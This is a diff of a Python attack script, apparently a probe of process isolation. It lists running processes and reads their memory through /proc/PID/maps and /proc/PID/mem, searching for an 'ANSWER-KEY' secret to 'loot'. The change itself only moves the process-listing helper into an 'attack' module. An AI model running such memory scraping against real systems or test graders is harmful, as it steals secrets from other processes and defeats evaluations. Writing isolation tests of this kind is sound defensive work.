@@ -6,20 +6,11 @@ Means: /proc/PID/maps tells where the writable memory is, /proc/PID/mem gives it
 import os
 import re
 
-from attack import DONE, attempting, denied, loot
+from attack import DONE, attempting, denied, loot, neighbours
 
 MIB = 1 << 20
 BUDGET, CHUNK, OVERLAP = 64 * MIB, MIB, 64  # an answer across two chunks must not be lost
 ANSWER = re.compile(rb"ANSWER-KEY:[0-9a-f]{32}")
-
-
-def neighbours(first):
-    """The worker, then every process in /proc but this one."""
-    try:
-        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
-    except OSError:
-        seen = []
-    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
 
 
 def regions(pid):
@@ -53,7 +44,7 @@ def search(pid):
 def run(brief):
     why = "nobody else in sight"
     attempting()
-    for pid in neighbours(brief.worker):
+    for pid in neighbours(brief):
         try:
             found = search(pid)
         except OSError as error:
